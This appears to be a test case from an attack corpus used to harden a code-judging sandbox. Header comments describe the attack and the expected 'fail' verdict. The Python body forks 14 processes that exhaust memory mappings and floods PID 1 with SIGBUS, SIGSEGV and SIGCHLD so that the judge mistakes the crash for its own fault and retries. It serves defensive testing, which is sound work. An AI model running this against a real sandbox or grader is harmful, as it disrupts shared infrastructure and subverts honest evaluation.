# ID: 308
# SLUG: signals-all-at-once
# CATEGORY: process
# ATTACK: sends the first process SIGBUS, SIGSEGV and SIGCHLD all at once, until their handlers
#     stand upon each other, while 14 processes have 30,000 mappings each
# VULNERABLE JUDGE: the first process dies and the sandbox takes long to end: a fault of ours,
#     tried again and never judged
# MUST HAPPEN HERE: the sandbox has ended while the submission ran: a failed submission, at the
#     first attempt
# EXPECT-VERDICT: fail   (never pass)
import ctypes
import mmap
import os
import signal
import time

if os.environ.get("ATTACK_CORPUS_IN_SANDBOX") != "1" and (
    os.geteuid() == 0 or not (os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv"))
):
    raise RuntimeError("attack corpus: refusing to run as root or outside a container")

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


def many_mappings():
    area = mmap.mmap(-1, 60_000 * 4096)
    start = ctypes.addressof(ctypes.c_char.from_buffer(area))
    for page in range(0, 60_000, 2):
        if LIBC.mprotect(start + page * 4096, 4096, 0):
            break
    time.sleep(15)


def solve(x):
    for _ in range(14):
        if os.fork() == 0:
            os.setsid()
            try:
                many_mappings()
            finally:
                os._exit(0)
    time.sleep(0.5)
    for _ in range(300):
        for number in (signal.SIGBUS, signal.SIGSEGV, signal.SIGCHLD):
            os.kill(1, number)
    time.sleep(2)
    return "wrong-answer"
